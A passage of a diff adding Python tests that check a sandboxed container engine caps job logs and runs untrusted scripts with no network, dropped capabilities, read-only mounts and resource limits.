+        tracemalloc.stop()
+    assert len(ran.logs) <= 4096 and len(logs) <= 4096
+    assert logs.endswith(b"THE-END\n") and b"earlier ones cut" in logs
+    assert on_disk <= 2 * log_cap  # 48 MiB printed; the engine kept about a MiB
+    assert peak < 4 * MiB  # the agent streamed the logs, it never held them all
+
+
+def test_engine_reports_the_promised_configuration(
+    runtime, runtime_image, site, test_labels, docker_client
+):
+    script = """
+    report(ok=True)
+    """
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        attrs = docker_client.api.inspect_container(ran.container_id)
+    hc = attrs["HostConfig"]
+    assert attrs["Image"] == runtime_image
+    assert attrs["Config"]["User"] == JOB_USER
+    labels = attrs["Config"]["Labels"]
+    assert labels[JOB_LABEL].startswith("hostile-") and labels[MANAGED_LABEL] == "true"
+    assert all(labels[k] == v for k, v in test_labels.items())
+    assert hc["NetworkMode"] == "none" and hc["ReadonlyRootfs"] is True
+    assert hc["CapDrop"] == ["ALL"] and not hc["CapAdd"] and hc["Privileged"] is False
+    assert hc["SecurityOpt"] == ["no-new-privileges:true"]
+    assert hc["Memory"] == hc["MemorySwap"] == 256 * MiB and hc["PidsLimit"] == 64
+    assert hc["IpcMode"] == "private" and not hc.get("DeviceRequests")
+    binds = {m["Destination"]: m["RW"] for m in attrs["Mounts"]}
+    assert binds == {"/data/ds": False, "/model/base": False, "/code": False, "/output": True}
